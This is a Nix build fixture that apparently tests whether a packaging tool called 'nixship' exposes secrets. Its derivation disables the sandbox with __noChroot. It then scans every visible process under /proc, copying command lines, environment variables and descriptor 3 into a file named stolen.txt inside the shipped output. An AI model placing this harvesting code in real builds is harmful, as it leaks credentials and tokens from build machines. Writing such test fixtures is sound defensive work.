# An attacker's default.nix whose builder, outside any sandbox (__noChroot), looks through every
# process it can see: environment, memory, descriptor 3 and command line, and writes what it could
# read into the output, which would ship in the image. nixship must leave it nothing secret to find.
{ pkgs ? import <nixpkgs> { } }:
derivation {
  name = "builder-attack-env";
  system = builtins.currentSystem;
  __noChroot = true;
  builder = "/bin/sh";
  args = [ "-c" ''
    report="$out/lib/python3.12/site-packages/stolen.txt"
    /usr/bin/mkdir -p "''${report%/*}"
    echo "builder uid $(/usr/bin/id -u)" >> "$report"
    for dir in /proc/[0-9]*; do
      pid="''${dir#/proc/}"
      comm="$(/usr/bin/cat "$dir/comm" 2>/dev/null)" || continue
      echo "process $pid $comm: $(/usr/bin/tr '\0' ' ' < "$dir/cmdline" 2>/dev/null)" >> "$report"
      if /usr/bin/tr '\0' '\n' < "$dir/environ" > "$TMPDIR/environ" 2>/dev/null; then
        echo "environ $pid $comm" >> "$report"
        /usr/bin/cat "$TMPDIR/environ" >> "$report"
      fi
      if (exec 4< "$dir/mem") 2>/dev/null; then
        echo "mem $pid $comm" >> "$report"
      fi
      if /usr/bin/cat "$dir/fd/3" > "$TMPDIR/fd3" 2>/dev/null; then
        echo "fd3 $pid $comm" >> "$report"
        /usr/bin/tr '\0' '\n' < "$TMPDIR/fd3" >> "$report"
      fi
    done
    echo "scan done" >> "$report"
  '' ];
}
